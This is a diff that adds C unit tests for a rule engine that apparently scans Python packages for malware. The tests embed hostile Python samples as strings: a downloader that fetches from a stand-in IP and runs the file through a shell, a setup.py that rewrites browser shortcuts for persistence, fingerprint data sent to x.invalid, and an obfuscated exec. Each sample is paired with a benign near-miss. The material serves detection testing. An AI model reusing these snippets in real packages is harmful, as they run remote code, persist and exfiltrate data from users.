@@ -657,6 +657,123 @@ static void test_rules_behave__more_shapes(void **state)
 		LG_SEV_HIGH);
 }
 
+/* A dropper that marks its download executable and starts it through a
+ * shell in the background (chmod +x, trailing &). */
+static void test_rules_behave__download_shell_start(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg/fetch.py",
+			 "import os, requests\n"
+			 "def stage(name):\n"
+			 "    rq = requests.get(f'http://203.0.113.7/{name}')\n"
+			 "    with open(name, 'wb') as f:\n"
+			 "        f.write(rq.content)\n"
+			 "    os.system(f'chmod +x {name}')\n"
+			 "    os.system(f'./{name} &')\n"
+			 "stage('agent')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_HIGH);
+	/* near miss: a release tarball from GitHub, unpacked with a shell. */
+	assert_int_equal(
+		scan_sev("pkg/fetch.py",
+			 "import os, requests\n"
+			 "def stage(dest):\n"
+			 "    rq = requests.get('https://github.com/o/r/archive/v1.tar.gz')\n"
+			 "    open(dest, 'wb').write(rq.content)\n"
+			 "    os.system(f'tar xf {dest} && chmod +x r-1/configure')\n"
+			 "stage('r.tgz')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		-1);
+}
+
+/* Shortcuts of browsers rewritten to side-load an extension (the clipboard
+ * hijackers' persistence). */
+static void test_rules_behave__shortcut_extension(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import os\n"
+			 "from win32com.client import Dispatch\n"
+			 "shell = Dispatch('WScript.Shell')\n"
+			 "for root, dirs, files in os.walk(os.getenv('APPDATA')):\n"
+			 "    for f in files:\n"
+			 "        if f.endswith('.lnk'):\n"
+			 "            lnk = shell.CreateShortcut(os.path.join(root, f))\n"
+			 "            lnk.Arguments = '--load-extension=C:\\\\x'\n"
+			 "            lnk.Save()\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_CRITICAL);
+	/* near misses: a desktop shortcut made by an installer helper, and a
+	 * browser-automation library that loads its own extension. */
+	assert_int_equal(
+		scan_sev("pkg/shortcut.py",
+			 "from win32com.client import Dispatch\n"
+			 "def make(target, path):\n"
+			 "    s = Dispatch('WScript.Shell').CreateShortcut(path)\n"
+			 "    s.TargetPath = target\n"
+			 "    s.Save()\n",
+			 LG_RULE_PERSIST),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg/driver.py",
+			 "def options(o, ext):\n"
+			 "    open(ext + '/manifest.json', 'w').write('{}')\n"
+			 "    o.add_argument('--load-extension=' + ext)\n",
+			 LG_RULE_PERSIST),
+		-1);
+}
+
+/* Fingerprint functions handed to a wrapper uncalled still flow. */
+static void test_rules_behave__exfil_by_reference(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import os, json\nfrom urllib import request\n"
+			 "def safe(fn, *a):\n"
+			 "    try:\n        return fn(*a)\n"
+			 "    except Exception:\n        return None\n"
+			 "info = {'h': safe(os.uname), 'd': safe(os.getcwd)}\n"
+			 "q = json.dumps(info)\n"
+			 "request.urlopen(request.Request('https://x.invalid/?d=' + q))\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_HIGH);
+	/* near miss: other functions handed over the same way. */
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import os, json\nfrom urllib import request\n"
+			 "def safe(fn, *a):\n"
+			 "    return fn(*a)\n"
+			 "info = {'p': safe(os.path.join, 'a', 'b'), 's': safe(os.cpu_count)}\n"
+			 "request.urlopen('https://x.invalid/?d=' + json.dumps(info))\n",
+			 LG_RULE_NET_EXFIL),
+		-1);
+}
+
+/* exec of a string decrypted through a character table, and the
+ * near miss of exec over lines of a variable. */
+static void test_rules_behave__exec_char_table(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg/util.py",
+			 "import string\n"
+			 "a = string.ascii_letters\nr = a[::-1]\n"
+			 "exec(''.join([r[a.index(c)] if c in r else c "
+			 "for c in 'KIRMG(1)']))\n",
+			 LG_RULE_DECODE_EXEC),
+		LG_SEV_HIGH);
+	assert_int_equal(
+		scan_sev("pkg/util.py",
+			 "def run(code):\n"
+			 "    exec('\\n'.join(l for l in code.splitlines()))\n"
+			 "run(open('x.py').read())\n",
+			 LG_RULE_DECODE_EXEC),
+		-1);
+}
+
 int test_rules_behave_group(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -676,6 +793,10 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__contexts),
 		cmocka_unit_test(test_rules_behave__allowed_build_shapes),
 		cmocka_unit_test(test_rules_behave__more_shapes),
+		cmocka_unit_test(test_rules_behave__download_shell_start),
+		cmocka_unit_test(test_rules_behave__shortcut_extension),
+		cmocka_unit_test(test_rules_behave__exfil_by_reference),
+		cmocka_unit_test(test_rules_behave__exec_char_table),
 	};
 
 	return cmocka_run_group_tests_name("rules_behave", tests, NULL, NULL);
